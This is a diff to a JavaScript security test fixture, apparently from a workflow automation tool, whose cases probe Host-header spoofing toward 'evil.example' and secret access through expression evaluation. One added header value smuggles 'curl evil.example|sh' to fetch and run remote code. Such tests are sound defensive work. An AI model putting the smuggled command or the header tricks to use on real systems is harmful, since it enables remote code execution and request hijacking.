@@ -146,6 +146,7 @@ const all = {
       asked.end('body');
     });
   },
+  async sendsByOddHeader() { return this.helpers.httpRequest({ url: 'https://good.example/', headers: { host: 'a.b; curl evil.example|sh #' } }); },
   async sendsByHeader() { return this.helpers.httpRequest({ url: 'https://good.example/', headers: { hOsT: 'evil.example' } }); },
   async fetchesByHeader() { return (await fetch('https://good.example/', { headers: { host: 'evil.example:443' } })).text(); },
   async sendsBySession() {
@@ -167,6 +168,7 @@ const all = {
   },
   // As it should be.
   async sendsToMine() { return (await this.helpers.httpRequest({ url: 'https://mine.example/it', headers: { Host: 'mine.example' }, json: true })).url; },
+  async evaluatesItsDefault() { return this.evaluateExpression('{{ $vars.secret }}', 0); },
   async evaluatesWell() { return [this.evaluateExpression('{{ 1 + 1 }}', 0), this.evaluateExpression('={{ 2 + 1 }}', 0)]; },
   async waits() { await new Promise((go) => setTimeout(go, 3500)); return 'waited'; },
   async waitsShortly() { await new Promise((go) => setTimeout(go, 300)); return 'waited'; },
